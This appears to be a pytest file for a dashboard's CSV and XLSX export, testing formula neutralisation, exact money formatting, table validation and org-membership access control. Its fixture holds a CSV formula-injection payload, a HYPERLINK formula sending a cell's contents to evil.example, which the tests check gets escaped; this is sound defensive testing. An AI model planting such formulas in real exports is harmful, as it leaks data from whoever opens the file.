"""Exports of what a dashboard shows: every text cell neutralised, money exact, bad tables refused with the reason."""

from __future__ import annotations

import io
import json

import openpyxl
from adapters.http_endpoint import HttpRequest
from drilldown.endpoints import DrillDownEndpoints, parse_table, render_csv, render_xlsx

BODY = {
    "org_id": "acme",
    "title": "Records of Revenue, Oct 2026",
    "format": "csv",
    "currency": "USD",
    "columns": [
        {"label": "Record", "kind": "text"},
        {"label": "Memo", "kind": "text"},
        {"label": "Amount", "kind": "money"},
    ],
    "rows": [
        ["JE-1", '=HYPERLINK("http://evil.example/?x="&B2)', 123456],
        ["JE-2", "-12.50", -5],
        ["JE-3", None, None],
    ],
}


def test_a_csv_export_neutralises_formulas_and_writes_exact_amounts():
    table = parse_table(BODY)
    assert not isinstance(table, str)
    text = render_csv(table).decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0] == "Record,Memo,Amount"
    assert lines[1] == 'JE-1,"\'=HYPERLINK(""http://evil.example/?x=""&B2)",1234.56'
    assert lines[2] == "JE-2,-12.50,-0.05", "a plain negative number stays a number"
    assert lines[3] == "JE-3,,"


def test_a_workbook_export_has_string_cells_for_text_and_number_cells_for_money():
    table = parse_table(BODY | {"format": "xlsx"})
    assert not isinstance(table, str)
    sheet = openpyxl.load_workbook(io.BytesIO(render_xlsx(table))).active
    assert sheet["B2"].value.startswith("'=HYPERLINK") and sheet["B2"].data_type == "s"
    assert sheet["C2"].value == 1234.56 and sheet["C3"].value == -0.05


def test_a_table_that_is_not_one_is_refused_with_the_reason():
    assert "format" in parse_table(BODY | {"format": "pdf"})
    assert "integer of minor units" in parse_table(BODY | {"rows": [["JE-1", "x", 12.5]]})
    assert "row 1 must be a list of 3 cells" in parse_table(BODY | {"rows": [["JE-1"]]})


class _Member:
    def __init__(self, exists: bool):
        self.exists = exists


class _Db:
    def __init__(self, members: set[str]):
        self.members = members

    def document(self, path: str):
        members = self.members

        class _Ref:
            def get(self):
                return _Member(path.rsplit("/", 1)[-1] in members and path.startswith("organizations/acme/"))

        return _Ref()


def _endpoints(members: set[str]) -> DrillDownEndpoints:
    return DrillDownEndpoints(_Db(members), lambda: None, lambda: "p.d.t", lambda token: {"uid": token})  # type: ignore[arg-type]


def test_only_a_member_of_the_org_named_may_export_and_the_reply_is_a_file():
    data = json.dumps(BODY).encode()
    reply = _endpoints({"ada"}).handle("export", HttpRequest("POST", "Bearer ada", body=data))
    assert reply.status == 200 and reply.content_type.startswith("text/csv")
    assert reply.headers["Content-Disposition"] == 'attachment; filename="Records-of-Revenue-Oct-2026.csv"'
    refused = _endpoints({"ada"}).handle("export", HttpRequest("POST", "Bearer eve", body=data))
    assert refused.status == 403 and json.loads(refused.content)["error"] == "permission_denied"
    other = _endpoints({"ada"}).handle(
        "export", HttpRequest("POST", "Bearer ada", body=json.dumps(BODY | {"org_id": "globex"}).encode())
    )
    assert other.status == 403
